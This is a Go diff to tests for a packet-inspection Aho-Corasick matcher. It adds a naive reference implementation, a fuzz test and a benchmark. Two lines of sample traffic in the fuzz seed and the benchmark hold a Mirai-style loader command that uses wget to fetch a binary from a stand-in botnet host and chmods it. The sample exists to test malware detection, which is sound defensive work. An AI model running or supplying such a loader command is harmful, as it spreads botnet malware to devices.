@@ -3,6 +3,8 @@ package dpi
 import (
 	"bytes"
 	"math/rand"
+	"slices"
+	"sort"
 	"testing"
 	"testing/quick"
 )
@@ -54,8 +56,45 @@ func TestMatcherEmptyPatternsIgnored(t *testing.T) {
 	}
 }
 
+// naiveFindAll is the matcher's specification: every occurrence of every
+// non-empty pattern, ordered by end offset, then longest pattern first,
+// then by pattern index.
+func naiveFindAll(patterns [][]byte, text []byte) []Match {
+	var pats [][]byte
+	for _, p := range patterns {
+		if len(p) > 0 {
+			pats = append(pats, p)
+		}
+	}
+	var out []Match
+	for end := 1; end <= len(text); end++ {
+		var at []Match
+		for pi, p := range pats {
+			if len(p) <= end && bytes.Equal(text[end-len(p):end], p) {
+				at = append(at, Match{Pattern: pi, End: end})
+			}
+		}
+		sort.SliceStable(at, func(i, j int) bool { return len(pats[at[i].Pattern]) > len(pats[at[j].Pattern]) })
+		out = append(out, at...)
+	}
+	return out
+}
+
+// checkMatcher compares FindAll and Contains with naiveFindAll.
+func checkMatcher(t *testing.T, patterns [][]byte, text []byte) {
+	t.Helper()
+	m := NewMatcher(patterns)
+	got, want := m.FindAll(text), naiveFindAll(patterns, text)
+	if !slices.Equal(got, want) {
+		t.Fatalf("FindAll = %v, want %v (pats=%q text=%q)", got, want, patterns, text)
+	}
+	if c := m.Contains(text); c != (len(want) > 0) {
+		t.Fatalf("Contains = %v, want %v (pats=%q text=%q)", c, len(want) > 0, patterns, text)
+	}
+}
+
 // TestMatcherAgainstNaive is a property test: AC results equal naive
-// search over random inputs and patterns.
+// search, in order, over random inputs and patterns.
 func TestMatcherAgainstNaive(t *testing.T) {
 	rng := rand.New(rand.NewSource(3))
 	alphabet := []byte("abc")
@@ -66,33 +105,59 @@ func TestMatcherAgainstNaive(t *testing.T) {
 		}
 		return b
 	}
-	for trial := 0; trial < 200; trial++ {
+	for trial := 0; trial < 500; trial++ {
 		var pats [][]byte
-		for i := 0; i < 1+rng.Intn(5); i++ {
-			pats = append(pats, randBytes(1+rng.Intn(4)))
+		for i := 0; i < 1+rng.Intn(8); i++ {
+			pats = append(pats, randBytes(rng.Intn(5)))
 		}
-		text := randBytes(rng.Intn(60))
-		m := NewMatcher(pats)
-		got := make(map[Match]int)
-		for _, mt := range m.FindAll(text) {
-			got[mt]++
+		checkMatcher(t, pats, randBytes(rng.Intn(60)))
+	}
+}
+
+// FuzzAhoCorasick checks the automaton against naiveFindAll. The first
+// argument holds the patterns, separated by zero bytes.
+func FuzzAhoCorasick(f *testing.F) {
+	f.Add([]byte("he\x00she\x00his\x00hers"), []byte("ushers"))
+	f.Add([]byte("aa\x00a\x00aa"), []byte("aaaa"))
+	var rules [][]byte
+	for _, r := range IoTMalwareRules() {
+		for _, k := range r.Keywords {
+			rules = append(rules, k.Pattern)
 		}
-		want := make(map[Match]int)
-		for pi, p := range m.patterns {
-			for i := 0; i+len(p) <= len(text); i++ {
-				if bytes.Equal(text[i:i+len(p)], p) {
-					want[Match{Pattern: pi, End: i + len(p)}]++
-				}
+	}
+	f.Add(bytes.Join(rules, []byte{0}), []byte("/bin/busybox; wget http://cnc.botnet.example/m; chmod 777 ./dvrHelper"))
+	f.Fuzz(func(t *testing.T, pats, text []byte) {
+		if len(pats) > 512 || len(text) > 512 {
+			return
+		}
+		checkMatcher(t, bytes.Split(pats, []byte{0}), text)
+	})
+}
+
+// BenchmarkMatcherFindAll scans a 1 KiB payload with the built-in rule
+// corpus: benign bytes, and the same bytes with a Mirai loader inside.
+func BenchmarkMatcherFindAll(b *testing.B) {
+	var pats [][]byte
+	for _, r := range IoTMalwareRules() {
+		for _, k := range r.Keywords {
+			pats = append(pats, k.Pattern)
+		}
+	}
+	m := NewMatcher(pats)
+	benign := bytes.Repeat([]byte("GET /api/v1/state?temp=21.5&hum=40 HTTP/1.1\r\n"), 1024/46+1)[:1024]
+	loader := append([]byte(nil), benign...)
+	copy(loader[300:], "/bin/busybox; wget http://cnc.botnet.example/mirai.arm; chmod 777 ./dvrHelper")
+	for _, c := range []struct {
+		name string
+		data []byte
+	}{{"benign", benign}, {"loader", loader}} {
+		b.Run(c.name, func(b *testing.B) {
+			b.SetBytes(int64(len(c.data)))
+			b.ReportAllocs()
+			for i := 0; i < b.N; i++ {
+				m.FindAll(c.data)
 			}
-		}
-		if len(got) != len(want) {
-			t.Fatalf("trial %d: got %v want %v (pats=%q text=%q)", trial, got, want, pats, text)
-		}
-		for k, v := range want {
-			if got[k] != v {
-				t.Fatalf("trial %d: mismatch at %v (pats=%q text=%q)", trial, k, pats, text)
-			}
-		}
+		})
 	}
 }
 
